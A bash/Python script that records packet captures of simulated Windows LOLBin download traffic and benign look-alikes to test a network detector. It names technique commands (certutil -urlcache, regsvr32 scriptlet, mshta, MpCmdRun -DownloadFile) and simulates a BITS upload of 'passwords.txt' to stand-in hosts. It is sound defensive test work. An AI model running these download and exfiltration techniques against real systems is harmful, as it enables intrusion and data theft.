#!/usr/bin/env bash
# make-detect-set.sh: record pcaps/detect-*.pcap, a small set of real captures of Windows
# LOLBin downloads (and look-alikes that must stay quiet) for testing lolwire's detection,
# plus a machine-readable manifest, pcaps/detect-set.tsv, with one row per HTTP transaction
# or TLS connection and what lolwire is expected to say about it.
#
# Real clients talk to real servers: curl (with each tool's User-Agent and headers), python3
# raw sockets where curl cannot send the exact request (.NET WebClient: no User-Agent), and
# openssl s_client; the servers are an HTTP/1.x server written here in python3 that does its
# own framing (the same design as make-http-set.sh) and openssl s_server.
#
# Two network namespaces joined by one veth pair, nothing else (the approach of
# make-demo.sh and make-http-set.sh, with other names and addresses so the scripts never
# collide).  The server namespace also holds three "internet" addresses on its loopback,
# which the client reaches through 10.97.0.1; the client namespace has no default route:
#
#   lwd-client  lwd-c0  10.97.0.2/24  <---- veth ---->  lwd-s0  10.97.0.1/24  lwd-server
#                 routes 198.51.100.10/32, 198.51.100.20/32,     lo: 198.51.100.10/32 ("external web")
#                        203.0.113.50/32 via 10.97.0.1               198.51.100.20/32 (second external host)
#                                                                    203.0.113.50/32  (dyn-DNS/paste/file sharing)
#
# Host names are mapped with curl --resolve (the captures hold no DNS).  One capture per
# theme, each with its own tcpdump on lwd-c0 in lwd-client:
#   detect-msiexec.pcap           msiexec: MSI by name, MSI behind .php, raw IP :8088, remote .mst
#   detect-certutil.pcap          certutil / CryptoAPI fetching PE, PowerShell, MSI
#   detect-mshta.pcap             mshta HTA (plain, gzip+chunked, as .txt), regsvr32 SCT, wmic XSL
#   detect-bits.pcap              BITS HEAD + ranged GET (3 hosts), BITS_POST upload session
#   detect-cradles.pcap           PowerShell 5.1/7, WinHTTP, no UA, curl, WebDAV, MpCmdRun, cmdl32, certreq
#   detect-msbuild-disguise.pcap  MSBuild inline task; PE as PNG, MSI as PDF; cradle as .txt
#   detect-hosts-tls.pcap         duckdns, pastebin, transfer.sh, raw IP over HTTP; TLS SNIs
#   detect-benign.pcap            CRL/AIA/OCSP/authroot, Windows Update + Delivery Optimization,
#                                 browser downloads, a normal TLS handshake, IE7-UA polling
#
# One table (ROWS in lwd.py below) drives the clients, the server, the checks and the
# manifest.  Every served body is deterministic (fixed timestamps, GUIDs, seeds; the
# throw-away CA's RSA key is derived from a fixed seed and RSA signatures are
# deterministic), so its SHA-256 is the same on every run; the captures themselves are not
# byte-reproducible (ports, times, TLS keys).  The hashes go to pcaps/detect-set.sha256.
#
# Needs root (namespaces, tcpdump).  Installs missing Debian packages with apt-get.
# Idempotent: removes namespaces left over from an earlier run, writes each capture to a
# temporary file and moves the set into place only when every capture is verified.  The
# served files and logs live in a temporary directory that is removed on exit.  No packet
# leaves the two namespaces.
#
# Usage: sudo bash pcaps/make-detect-set.sh [OUTPUT-DIR]     (default: pcaps/)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUTDIR="$(cd "${1:-$HERE}" && pwd)"

NS_C=lwd-client
NS_S=lwd-server
IF_C=lwd-c0
IF_S=lwd-s0
IP_C=10.97.0.2
IP_S=10.97.0.1
MAC_C=02:10:97:00:00:02
MAC_S=02:10:97:00:00:01
EXT_ADDRS=(198.51.100.10 198.51.100.20 203.0.113.50)   # on lo in lwd-server, routed via $IP_S
PY=/usr/bin/python3          # Debian's python3 (python3-xlwt, python3-olefile live there)
FAKETIME='2024-01-01 00:00:00'
# The throw-away CA.  Seed, name and OCSP serial were chosen (once, by search) so that the
# base64 of the OCSP request has only letters and digits: the OCSP GET then needs no
# percent-escapes, and the URI lolwire logs (percent-decoded) equals the one sent.
CA_SEED=example-test-root-10
CA_SUBJECT='/C=US/O=Example CA (lolwire test)/CN=Example Test Root CA 2024'
CA_SERIAL=0x4C5744CA0001
OCSP_SERIAL=4C57440000
export LWD_NS_C=$NS_C LWD_NS_S=$NS_S LWD_IP_C=$IP_C LWD_IP_S=$IP_S

# shellcheck source=netns-lib.sh
. "$HERE/netns-lib.sh"

# ---------------------------------------------------------------------------------------
# Tools.  command or python module -> Debian package; install whatever is missing.
# ---------------------------------------------------------------------------------------
declare -A PKG_OF=(
    [ip]=iproute2 [ss]=iproute2 [ethtool]=ethtool [tcpdump]=tcpdump [tshark]=tshark
    [curl]=curl [openssl]=openssl [wixl]=wixl [msiinfo]=msitools [msibuild]=msitools
    [gcab]=gcab [zip]=zip [unzip]=unzip [faketime]=faketime [file]=file [sha256sum]=coreutils
    [base64]=coreutils
)
mapfile -t missing < <(lw_missing_commands)
[ -x "$PY" ] || missing+=(python3)
for mod in xlwt:python3-xlwt olefile:python3-olefile; do
    { [ -x "$PY" ] && "$PY" -c "import ${mod%%:*}" 2>/dev/null; } || missing+=("${mod#*:}")
done
lw_install "${missing[@]}"

# Namespaces left by an interrupted run go first; netns-lib.sh cleans up on exit.
lw_remove_leftovers

TMP="$(mktemp -d /tmp/lolwire-detect.XXXXXX)"
WWW="$TMP/www"      # what the server serves
PC="$TMP/pcap"      # captures before they are moved into place
CA="$TMP/ca"
mkdir -p "$WWW" "$TMP/req" "$TMP/got" "$PC" "$CA" "$TMP/tls"

# ---------------------------------------------------------------------------------------
# lwd.py: the table, content builder, HTTP server, clients, checks, manifest.
# ---------------------------------------------------------------------------------------
cat >"$TMP/lwd.py" <<'PYEOF'
"""Helper for make-detect-set.sh.  One table (ROWS) drives the clients, the server, the
checks and the manifest, so they cannot drift apart.

  lwd.py check-table                  consistency checks of the table
  lwd.py build TMP                    write the served files the shell does not build
  lwd.py rsa-key SEED OUT             deterministic RSA-2048 key (PKCS#1 PEM) for the throw-away CA
  lwd.py ctl CA-DER OUT               DER CertificateTrustList, the content of authroot.stl
  lwd.py captures                     the capture names, in order
  lwd.py tls-names                    "sni<TAB>address" for the TLS rows
  lwd.py manifest                     print detect-set.tsv
  lwd.py hashes TMP                   print detect-set.sha256
  lwd.py serve TMP PORT[,PORT..]      HTTP/1.x server with hand-made framing (server namespace)
  lwd.py run CAPTURE TMP              the clients of one capture (root namespace; each client
                                      runs through `ip netns exec`)
  lwd.py raw TMP CAPTURE CONN         raw-socket client for one connection (client namespace)
  lwd.py verify CAPTURE PCAP TMP      check one capture with tshark against the table
  lwd.py summary CAPTURE TMP          print the rows of one capture
"""
import collections, email.utils, gzip, hashlib, json, os, random, re, socket, socketserver
import struct, subprocess, sys, threading, time, uuid, zlib

NS_C = os.environ.get("LWD_NS_C", "lwd-client")
NS_S = os.environ.get("LWD_NS_S", "lwd-server")
IP_C = os.environ.get("LWD_IP_C", "10.97.0.2")
IP_S = os.environ.get("LWD_IP_S", "10.97.0.1")
EXT1 = "198.51.100.10"     # "external web"
EXT2 = "198.51.100.20"     # a second external host
DYN = "203.0.113.50"       # dynamic DNS / paste / file-sharing hosts
SERVER_ADDRS = (IP_S, EXT1, EXT2, DYN)
PY = sys.executable or "/usr/bin/python3"
MAX_PCAP = 200 * 1024
LAST_MODIFIED = "Mon, 01 Jan 2024 00:00:00 GMT"
SERVER = "lolwire-testd/1.0 Python/" + ".".join(map(str, sys.version_info[:3]))
BITS_PROTOCOL = "{7df0354d-249b-430f-820d-3d2a9bef4931}"
BITS_SESSION = "{3c7a1f2e-5b4d-4e8a-9c61-0d2f8a7b5e34}"

UA_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0")
UA_IE7 = ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; "
          ".NET4.0C; .NET4.0E)")
UA_MSI = "Windows Installer"
UA_CERTUTIL = "CertUtil URL Agent"
UA_CRYPTOAPI = "Microsoft-CryptoAPI/10.0"
UA_BITS = "Microsoft BITS/7.8"
UA_PS51 = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803"
UA_PS7 = "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1"
UA_WINHTTP = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)"
UA_CURL = "curl/8.4.0"
UA_WEBDAV = "Microsoft-WebDAV-MiniRedir/10.0.19045"
UA_MP = "MpCommunication"
UA_CMDL32 = "Microsoft(R) Connection Manager Vpn File Update"
UA_CERTREQ = "Mozilla/4.0 (compatible; Win32; NDES client 10.0.19041.1466/vb_release_svc_prod1)"
UA_DO = "Microsoft-Delivery-Optimization/10.0"

ACCEPT_HTML = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
               "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7")
ACCEPT_IMG = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"

# Client profiles: (User-Agent or None for no header at all, request headers).  curl adds
# Host (and Accept: */*, which "Accept:" removes); a header given per row replaces the
# profile's header of the same name.
PROFILES = {
    "msiexec":   (UA_MSI, ["Accept: */*", "Cache-Control: no-cache", "Connection: Keep-Alive"]),
    "certutil":  (UA_CERTUTIL, ["Cache-Control: no-cache", "Pragma: no-cache", "Accept: */*",
                                "Connection: Keep-Alive"]),
    "cryptoapi": (UA_CRYPTOAPI, ["Accept: */*", "Connection: Keep-Alive"]),
    "ie7":       (UA_IE7, ["Accept: */*", "Accept-Language: en-US", "UA-CPU: AMD64",
                           "Accept-Encoding: gzip, deflate", "Connection: Keep-Alive"]),
    "bits":      (UA_BITS, ["Accept: */*", "Accept-Encoding: identity", "Connection: Keep-Alive"]),
    "ps51":      (UA_PS51, ["Accept:", "Connection: Keep-Alive"]),
    "ps7":       (UA_PS7, ["Accept:", "Accept-Encoding: gzip, deflate, br"]),
    "winhttp":   (UA_WINHTTP, ["Accept: */*", "Connection: Keep-Alive"]),
    "webclient": (None, ["Connection: Keep-Alive"]),        # .NET WebClient: raw socket
    "curl":      (UA_CURL, ["Accept: */*"]),
    "webdav":    (UA_WEBDAV, ["Accept:", "translate: f", "Connection: Keep-Alive"]),
    "mpcmdrun":  (UA_MP, ["Accept: */*", "Connection: Keep-Alive"]),
    "cmdl32":    (UA_CMDL32, ["Accept: */*", "Connection: Keep-Alive"]),
    "certreq":   (UA_CERTREQ, ["Accept:", "Cache-Control: no-cache", "Connection: Keep-Alive"]),
    "browser":   (UA_BROWSER, ["Accept: " + ACCEPT_HTML, "Accept-Language: en-US,en;q=0.9",
                               "Accept-Encoding: gzip, deflate", "Upgrade-Insecure-Requests: 1",
                               "Connection: keep-alive"]),
    "do":        (UA_DO, ["Accept: */*", "Connection: Keep-Alive"]),
    "tls":       (None, []),
}

# Host name -> server address (raw-IP hosts need no entry).
IP_OF = {
    "cdn.softupd.example.net": EXT1, "dl.toolsmirror.example.net": EXT1,
    "news.example-portal.com": EXT1, "files.example-cdn.net": EXT1, "update.example.xyz": EXT1,
    "scripts.example-tools.net": EXT1, "stage.example-tools.net": EXT1,
    "cdn.example-tools.net": EXT1, "dav.example-files.com": EXT1, "dl.example.org": EXT1,
    "vpn.example-tools.net": EXT1, "assets.example-media.com": EXT1,
    "www.example.com": EXT1, "app.example.com": EXT1,
    "myhost.duckdns.org": DYN, "pastebin.com": DYN, "transfer.sh": DYN,
    "evil.duckdns.org": DYN, "files.ngrok-free.app": DYN,
    "crl.example-ca.com": EXT2, "aia.example-ca.com": EXT2, "ocsp.example-ca.com": EXT2,
    "ctldl.windowsupdate.com": EXT2, "download.windowsupdate.com": EXT2,
    "7.tlu.dl.delivery.mp.microsoft.com": EXT2,
}

CAPTURES = ["detect-msiexec", "detect-certutil", "detect-mshta", "detect-bits", "detect-cradles",
            "detect-msbuild-disguise", "detect-hosts-tls", "detect-benign"]


class Row:
    def __init__(self, cap, conn, method, host, uri, prof, expect, note, tech, desc, body=None,
                 ctype=None, status=None, enc=None, rng=None, hdrs=(), data=None, data_ctype=None,
                 resp=(), client=None):
        self.cap, self.conn, self.method, self.host, self.uri = cap, conn, method, host, uri
        self.prof, self.expect, self.note, self.tech, self.desc = prof, expect, note, tech, desc
        self.ua = PROFILES[prof][0]
        self.body, self.ctype, self.enc, self.rng = body, ctype, enc, rng
        self.hdrs, self.data, self.data_ctype, self.resp = list(hdrs), data, data_ctype, list(resp)
        self.client = client or {"webclient": "raw", "tls": "tls"}.get(prof, "curl")
        self.status = status or (206 if rng else 207 if method == "PROPFIND" else 200)
        name, _, port = host.partition(":")
        self.hostname = name
        self.port = int(port) if port else (443 if method == "TLS" else 80)
        self.ip = IP_OF.get(name, name)

    def key(self):
        return (self.method, self.host, self.uri)

    def url(self):
        return "http://%s%s" % (self.host, self.uri)


ROWS = []


def add(*a, **kw):
    ROWS.append(Row(*a, **kw))


A = "alert"
MSI_N, CERTUTIL_N, MSHTA_N = "LOLBin::Msiexec_Download", "LOLBin::Certutil_Download", "LOLBin::Mshta_Payload"
SCT_N, XSL_N, BITS_N = "LOLBin::Scriptlet_Payload", "LOLBin::XSL_Script_Payload", "LOLBin::BITS_Download"
PS_N, HOST_N, DIS_N = "LOLBin::PowerShell_Download", "LOLBin::Suspicious_Host", "LOLBin::Disguised_Payload"
EXE = "application/x-msdownload"
OCT = "application/octet-stream"

# ---- detect-msiexec: msiexec /i http://… and TRANSFORMS=http://… -----------------------------
C = "detect-msiexec"
H = "cdn.softupd.example.net"
add(C, 1, "GET", H, "/pkg/setup.msi", "msiexec", A, MSI_N, "T1218.007",
    "msiexec /i over HTTP: real MSI (wixl), application/x-msi", body="msi-setup.msi", ctype="application/x-msi")
add(C, 2, "GET", H, "/dl/update.php?id=7", "msiexec", A, MSI_N, "T1218.007",
    "msiexec /i of a .php URI: MSI bytes as application/octet-stream, Content-Disposition update.msi",
    body="msi-update.msi", ctype=OCT, resp=['Content-Disposition: attachment; filename="update.msi"'])
add(C, 3, "GET", EXT1 + ":8088", "/files/install.msi", "msiexec", A, MSI_N, "T1218.007",
    "msiexec /i from a raw IP on port 8088: MSI", body="msi-rawip.msi", ctype=OCT)
add(C, 4, "GET", H, "/t/custom.mst", "msiexec", A, MSI_N, "T1218.007",
    "remote transform (TRANSFORMS=http://…): CFB with the transform root CLSID 000C1082-…",
    body="custom.mst", ctype=OCT)

# ---- detect-certutil --------------------------------------------------------------------
C = "detect-certutil"
H = "dl.toolsmirror.example.net"
add(C, 1, "GET", H, "/tools/nc.exe", "certutil", A, CERTUTIL_N, "T1105",
    "certutil -urlcache -f: PE32+ EXE", body="pe-nc.exe", ctype=EXE)
add(C, 2, "GET", H, "/tools/nc.exe?2", "cryptoapi", A, CERTUTIL_N, "T1105",
    "certutil's second fetch with the CryptoAPI UA: PE32+ EXE", body="pe-nc2.exe", ctype=EXE)
add(C, 3, "GET", H, "/a.ps1", "cryptoapi", A, CERTUTIL_N, "T1105",
    "CryptoAPI UA fetching a PowerShell script (text/plain)", body="a.ps1", ctype="text/plain")
add(C, 4, "GET", H, "/payload.bin", "cryptoapi", A, CERTUTIL_N, "T1105",
    "CryptoAPI UA fetching MSI bytes named .bin", body="msi-payloadbin.msi", ctype=OCT)

# ---- detect-mshta: mshta, regsvr32 /i:http (scrobj), wmic /format:http ----------------------
C = "detect-mshta"
H = "news.example-portal.com"
add(C, 1, "GET", H, "/app.hta", "ie7", A, MSHTA_N, "T1218.005",
    "mshta http://…/app.hta: HTA as application/hta", body="app.hta", ctype="application/hta")
add(C, 2, "GET", H, "/news.html", "ie7", A, MSHTA_N, "T1218.005",
    "mshta: HTA served as text/html, gzip + chunked", body="news.html", ctype="text/html",
    enc="gzip-chunked")
add(C, 3, "GET", H, "/invoice.txt", "browser", A, MSHTA_N, "T1218.005",
    "HTA bytes fetched by a browser as text/plain .txt", body="invoice.txt", ctype="text/plain",
    hdrs=["Referer: http://news.example-portal.com/"])
add(C, 4, "GET", H, "/r.sct", "ie7", A, SCT_N, "T1218.010",
    "regsvr32 /i:http://…/r.sct scrobj.dll: COM scriptlet as text/plain", body="r.sct", ctype="text/plain")
add(C, 5, "GET", H, "/image.jpg", "ie7", A, SCT_N, "T1218.010",
    "scriptlet disguised as image/jpeg", body="image.jpg", ctype="image/jpeg")
add(C, 6, "GET", H, "/f.xsl", "ie7", A, XSL_N, "T1220",
    "wmic /format:http://…/f.xsl: XSL with msxsl:script (JScript)", body="f.xsl", ctype="text/xml")
add(C, 7, "GET", H, "/list.xml", "ie7", A, XSL_N, "T1220",
    "XSL with the script namespace bound to the prefix ms (ms:script), as /list.xml text/xml",
    body="list.xml", ctype="text/xml")
add(C, 8, "GET", H, "/apps/viewer.exe", "ie7", A, "LOLBin::IE7_Compat_Download", "T1218",
    "IEExec/hh.exe-style urlmon fetch (IE7-compatible UA): PE32+ EXE", body="pe-ieexec.exe", ctype=EXE)

# ---- detect-bits: bitsadmin / Start-BitsTransfer ------------------------------------------
C = "detect-bits"
IUS = "If-Unmodified-Since: " + LAST_MODIFIED
for conn, host, uri, body, ctype, what in (
        (1, "files.example-cdn.net", "/update/agent.exe", "pe-agent.exe", EXE, "PE32+ EXE from a non-Microsoft host"),
        (2, EXT2, "/b/data.bin", "data.bin", OCT, "ZIP holding a PE, named .bin, from a raw IP"),
        (3, "update.example.xyz", "/x/readme.txt", "readme-xyz.txt", "text/plain", "text from an unusual TLD")):
    add(C, conn, "HEAD", host, uri, "bits", "any", "-", "-",
        "BITS HEAD before the download: %s" % what, body=body, ctype=ctype)
    add(C, conn, "GET", host, uri, "bits", A, BITS_N, "T1197",
        "BITS GET Range bytes=0-(size-1) after the HEAD, 206: %s" % what, body=body, ctype=ctype, rng=(0, -1), hdrs=[IUS])
for packet, desc, extra in (
        ("Create-Session", "BITS upload 1/3: Create-Session, Ack with a session id",
         ["BITS-Supported-Protocols: " + BITS_PROTOCOL]),
        ("Fragment", "BITS upload 2/3: Fragment with the file (Content-Range bytes 0-N/N+1)",
         ["BITS-Session-Id: " + BITS_SESSION, "Content-Name: passwords.txt"]),
        ("Close-Session", "BITS upload 3/3: Close-Session", ["BITS-Session-Id: " + BITS_SESSION])):
    add(C, 4, "BITS_POST", EXT1, "/upload/", "bits", A, "LOLBin::BITS_Upload", "T1197", desc,
        hdrs=["BITS-Packet-Type: " + packet] + extra,
        data="bits-fragment.txt" if packet == "Fragment" else "", data_ctype="")

# ---- detect-cradles ---------------------------------------------------------------------
C = "detect-cradles"
add(C, 1, "GET", "scripts.example-tools.net", "/s/run.ps1", "ps51", A, PS_N, "T1059.001",
    "PowerShell 5.1 Invoke-WebRequest: download cradle script", body="run.ps1", ctype="text/plain")
add(C, 2, "GET", "scripts.example-tools.net", "/s/tool.exe", "ps7", A, PS_N, "T1059.001",
    "PowerShell 7 Invoke-WebRequest: PE32+ EXE", body="pe-tool-ps7.exe", ctype=OCT)
add(C, 3, "GET", "stage.example-tools.net", "/w/stage2.exe", "winhttp", A, "LOLBin::WinHTTP_Download", "T1105",
    "WinHttp.WinHttpRequest.5.1 COM object: PE32+ EXE", body="pe-stage2.exe", ctype=EXE)
add(C, 4, "GET", "cdn.example-tools.net", "/m", "webclient", A, "LOLBin::NoUA_Executable", "T1105",
    ".NET WebClient (no User-Agent, raw socket): PE32+ EXE", body="pe-m.exe", ctype=OCT)
add(C, 5, "GET", EXT2, "/c/implant.exe", "curl", A, "LOLBin::Curl_Download", "T1105",
    "curl.exe from a raw IP: PE32+ EXE", body="pe-implant.exe", ctype=EXE)
H = "dav.example-files.com"
add(C, 6, "OPTIONS", H, "/webdav/", "webdav", "any", "-", "-",
    "WebDAV mini-redirector OPTIONS (DAV: 1,2)")
add(C, 6, "PROPFIND", H, "/webdav/", "webdav", "any", "-", "-",
    "WebDAV PROPFIND Depth 1: 207 multistatus", body="propfind-dir.xml",
    ctype='application/xml; charset="utf-8"', hdrs=["Depth: 1"], data="", data_ctype="")
add(C, 6, "PROPFIND", H, "/webdav/python.exe", "webdav", "any", "-", "-",
    "WebDAV PROPFIND Depth 0 of the file: 207 multistatus", body="propfind-file.xml",
    ctype='application/xml; charset="utf-8"', hdrs=["Depth: 0"], data="", data_ctype="")
add(C, 6, "GET", H, "/webdav/python.exe", "webdav", A, "LOLBin::WebDAV_Download", "T1105",
    "WebDAV GET (\\\\dav.example-files.com@80\\webdav\\python.exe): PE32+ EXE", body="pe-python.exe",
    ctype=EXE, hdrs=["Cache-Control: no-cache", "Pragma: no-cache"])
add(C, 7, "GET", "dl.example.org", "/mp/evil.exe", "mpcmdrun", A, "LOLBin::MpCmdRun_Download", "T1105",
    "MpCmdRun -DownloadFile: PE32+ EXE", body="pe-mp.exe", ctype=EXE)
add(C, 8, "GET", "vpn.example-tools.net", "/vpn/config.txt", "cmdl32", A, "LOLBin::Cmdl32_Download", "T1105",
    "cmdl32 /vpn /lan with a crafted profile: text file", body="config.txt", ctype="text/plain")
add(C, 9, "POST", EXT1, "/certreq/", "certreq", A, "LOLBin::Certreq_Transfer", "T1105",
    "certreq -Post -config http://…: JSON body up, text back", body="certreq-reply.txt",
    ctype="text/plain", data="certreq.json", data_ctype="application/json")

# ---- detect-msbuild-disguise --------------------------------------------------------------
C = "detect-msbuild-disguise"
H = "assets.example-media.com"
REF = "Referer: http://assets.example-media.com/"
add(C, 1, "GET", H, "/build/project.xml", "browser", A, "LOLBin::MSBuild_Project", "T1127.001",
    "MSBuild project with a CodeTaskFactory inline C# task, text/xml", body="project.xml",
    ctype="text/xml", hdrs=[REF])
add(C, 2, "GET", H, "/img/logo.png", "browser", A, DIS_N, "T1036.008",
    "PE32+ EXE served as image/png", body="pe-logo.exe", ctype="image/png", hdrs=[REF, "Accept: " + ACCEPT_IMG])
add(C, 3, "GET", H, "/docs/report.pdf", "browser", A, DIS_N, "T1036.008",
    "MSI served as application/pdf", body="msi-reportpdf.msi", ctype="application/pdf", hdrs=[REF])
add(C, 4, "GET", H, "/notes.txt", "browser", "any", "-", "-",
    "PowerShell download cradle as text/plain .txt (hunting)", body="notes.txt", ctype="text/plain", hdrs=[REF])

# ---- detect-hosts-tls: dynamic DNS, paste, file sharing, raw IP; TLS SNI -----------------
C = "detect-hosts-tls"
add(C, 1, "GET", "myhost.duckdns.org", "/payload.exe", "browser", A, HOST_N, "T1568.002",
    "dynamic-DNS host: PE32+ EXE", body="pe-duckdns.exe", ctype=EXE)
add(C, 2, "GET", "pastebin.com", "/raw/AbCdEf12", "browser", A, HOST_N, "T1102",
    "paste site raw view: PowerShell text", body="paste.ps1", ctype="text/plain; charset=utf-8")
add(C, 3, "GET", "transfer.sh", "/s/abc/tool.zip", "browser", A, HOST_N, "T1105",
    "file-sharing host: ZIP holding an EXE", body="tool.zip", ctype="application/zip")
add(C, 4, "GET", DYN, "/get.exe", "browser", A, HOST_N, "T1105",
    "raw IP host: PE32+ EXE", body="pe-get.exe", ctype=EXE)
add(C, 5, "TLS", "pastebin.com", "-", "tls", A, HOST_N, "T1102",
    "TLS 1.3 to 203.0.113.50:443, SNI of a paste site")
add(C, 6, "TLS", "evil.duckdns.org", "-", "tls", A, HOST_N, "T1568.002",
    "TLS 1.3 to 203.0.113.50:443, SNI under a dynamic-DNS domain")
add(C, 7, "TLS", "files.ngrok-free.app", "-", "tls", A, HOST_N, "T1105",
    "TLS 1.3 to 203.0.113.50:443, SNI of a tunnelling / file-hosting service")

# ---- detect-benign: look-alikes that must stay quiet ------------------------------------
C = "detect-benign"
add(C, 1, "GET", "crl.example-ca.com", "/pki/ca.crl", "cryptoapi", "quiet", "-", "-",
    "CryptoAPI CRL fetch: DER CRL (openssl ca -gencrl)", body="ca.crl", ctype="application/pkix-crl")
add(C, 2, "GET", "aia.example-ca.com", "/pki/ca.crt", "cryptoapi", "quiet", "-", "-",
    "CryptoAPI AIA fetch: DER CA certificate", body="ca.crt", ctype="application/x-x509-ca-cert")
add(C, 3, "GET", "ocsp.example-ca.com", "@OCSP@", "cryptoapi", "quiet", "-", "-",
    "CryptoAPI OCSP GET (base64 DER request in the path): DER OCSP response, good",
    body="ocsp.der", ctype="application/ocsp-response")
add(C, 4, "GET", "ctldl.windowsupdate.com",
    "/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "cryptoapi", "quiet", "-", "-",
    "CryptoAPI root list update: CAB holding authroot.stl (PKCS#7 CTL)", body="authrootstl.cab",
    ctype="application/vnd.ms-cab-compressed")
WU = "download.windowsupdate.com"
WU_CAB = "/c/msdownload/update/software/secu/2024/01/windows10.0-kb5034441-x64_abc.cab"
WU_EXE = "/d/msdownload/update/software/defu/2024/01/am_delta_patch.exe"
CABT = "application/vnd.ms-cab-compressed"
add(C, 5, "HEAD", WU, WU_CAB, "bits", "quiet", "-", "-", "Windows Update BITS HEAD of a CAB",
    body="wu.cab", ctype=CABT)
for i, r in enumerate(((0, 8191), (8192, 16383), (16384, -1))):
    add(C, 5, "GET", WU, WU_CAB, "bits", "quiet", "-", "-",
        "Windows Update BITS ranged GET %d/3, 206" % (i + 1), body="wu.cab", ctype=CABT, rng=r, hdrs=[IUS])
add(C, 6, "HEAD", WU, WU_EXE, "bits", "quiet", "-", "-", "Defender update BITS HEAD of a PE",
    body="pe-am_delta.exe", ctype=EXE)
add(C, 6, "GET", WU, WU_EXE, "bits", "quiet", "-", "-", "Defender update BITS GET Range bytes=0-(size-1), 206: PE32+ EXE",
    body="pe-am_delta.exe", ctype=EXE, rng=(0, -1), hdrs=[IUS])
add(C, 7, "GET", "7.tlu.dl.delivery.mp.microsoft.com",
    "/filestreamingservice/files/4b3f1c2e-8d5a-4e6f-9a7b-1c2d3e4f5a6b?P1=1704153600&P2=404&P3=2&P4=Zm9vYmFyYmF6cXV4",
    "do", "quiet", "-", "-", "Delivery Optimization ranged GET, 206: opaque bytes", body="do.bin", ctype=OCT,
    rng=(0, -1), hdrs=["MS-CV: 3Kx1aF2bQUGcZ0lM.1.2"])
H = "www.example.com"
REF = "Referer: http://www.example.com/index.html"
add(C, 8, "GET", H, "/index.html", "browser", "quiet", "-", "-", "browser page load: HTML",
    body="index.html", ctype="text/html; charset=utf-8")
add(C, 8, "GET", H, "/downloads/archive.zip", "browser", "quiet", "-", "-",
    "browser download: ZIP of text files only", body="archive.zip", ctype="application/zip", hdrs=[REF])
add(C, 8, "GET", H, "/images/photo.png", "browser", "quiet", "-", "-", "browser image: real PNG",
    body="photo.png", ctype="image/png", hdrs=[REF, "Accept: " + ACCEPT_IMG])
add(C, 8, "GET", H, "/feed.rss", "browser", "quiet", "-", "-", "browser: RSS 2.0 feed",
    body="feed.rss", ctype="application/rss+xml", hdrs=[REF])
add(C, 8, "GET", H, "/files/report.doc", "browser", "quiet", "-", "-",
    "browser download: OLE compound file that is not an MSI (Excel BIFF8 via xlwt)",
    body="report.doc", ctype="application/msword", hdrs=[REF])
add(C, 9, "TLS", H, "-", "tls", "quiet", "-", "-", "TLS 1.3 to 198.51.100.10:443, normal SNI")
add(C, 10, "POST", "app.example.com", "/gate.php", "ie7", "low-max", "-", "-",
    "IE7-compatible UA alone: short form POST, short text reply", body="gate-post.txt",
    ctype="text/plain", data="gate-form.txt", data_ctype="application/x-www-form-urlencoded")
add(C, 10, "GET", "app.example.com", "/gate.php?id=WS-0142", "ie7", "low-max", "-", "-",
    "IE7-compatible UA alone: poll, short text reply", body="gate-get.txt", ctype="text/plain")


def resolve_ocsp(www):
    """The OCSP row's URI is '/' + base64 of the DER request the shell made."""
    import base64
    p = os.path.join(www, "ocsp-request.der")
    if not os.path.exists(p):
        return
    uri = "/" + base64.b64encode(open(p, "rb").read()).decode()
    for r in ROWS:
        if r.uri == "@OCSP@":
            r.uri = uri


def rows_of(cap):
    return [r for r in ROWS if r.cap == cap]


def groups(cap):
    g = collections.OrderedDict()
    for r in rows_of(cap):
        g.setdefault(r.conn, []).append(r)
    return g


def check_table():
    problems = []
    by_key = collections.defaultdict(list)
    for r in ROWS:
        by_key[r.key()].append(r)
        for field in (r.method, r.host, r.uri, r.ua or "-", r.expect, r.note, r.tech, r.desc):
            if "\t" in field or "\n" in field:
                problems.append("tab/newline in %r" % (r.key(),))
        if r.uri != "@OCSP@" and ("%" in r.uri or " " in r.uri):
            problems.append("URI %r has %% or space (http.log decodes percent escapes)" % r.uri)
        if r.expect not in ("alert", "quiet", "low-max", "any"):
            problems.append("bad expect %r" % r.expect)
        if (r.expect == "alert") != (r.note != "-") or (r.note == "-") != (r.tech == "-"):
            problems.append("note/technique must be set exactly on alert rows: %r" % (r.key(),))
        if r.cap not in CAPTURES:
            problems.append("unknown capture %r" % r.cap)
        if r.hostname not in IP_OF and not re.fullmatch(r"\d+\.\d+\.\d+\.\d+", r.hostname):
            problems.append("no address for host %r" % r.hostname)
        if r.ip not in SERVER_ADDRS:
            problems.append("host %r maps to %r, not a server address" % (r.host, r.ip))
    for k, rs in by_key.items():
        # Repeated keys only where the same request really repeats (ranged GETs of one file,
        # the BITS upload packets): same capture, connection, UA and expectation.
        if len({(r.cap, r.conn, r.ua, r.expect, r.note, r.tech) for r in rs}) > 1:
            problems.append("rows with key %r differ in capture/conn/UA/expectation" % (k,))
    for p in problems:
        print("table: " + p, file=sys.stderr)
    return not problems


# --------------------------------------------------------------------------- content
def sha(b):
    return hashlib.sha256(b).hexdigest()


def stream(seed, n):
    return random.Random(seed).randbytes(n)


def png(w, h, seed):
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    rnd = random.Random(seed)
    rows = b""
    for y in range(h):
        rows += b"\x00" + b"".join(bytes((min(255, 4 * x + rnd.randrange(8)), 0x70 + y,
                                          min(255, 3 * y + rnd.randrange(8)))) for x in range(w))
    text = chunk(b"tEXt", b"Comment\x00lolwire detection test set: a plain photo")
